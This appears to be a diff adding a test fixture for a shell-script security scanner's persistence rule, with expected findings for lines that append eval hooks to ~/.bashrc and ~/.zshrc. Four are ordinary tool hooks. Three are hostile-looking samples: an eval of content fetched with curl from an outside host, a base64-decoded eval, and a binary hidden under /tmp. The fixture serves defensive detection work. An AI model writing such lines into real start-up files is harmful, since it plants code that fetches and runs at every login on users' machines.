@@ -1,0 +1,10 @@
+#!/bin/bash
+# Tool init hooks and completions, as the tools' own install guides give them.
+echo 'eval "$(uv generate-shell-completion bash)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
+echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+echo 'eval "$(conda shell.bash hook)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
+echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+# the same shape around a fetch, a decode or a path in /tmp is not a tool's hook
+echo 'eval "$(curl -fsSL https://cfg.example-sync.net/init)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'eval "$(echo ZWNobyBoaQ== | base64 -d)"' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'eval "$(/tmp/.x/agent init bash)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
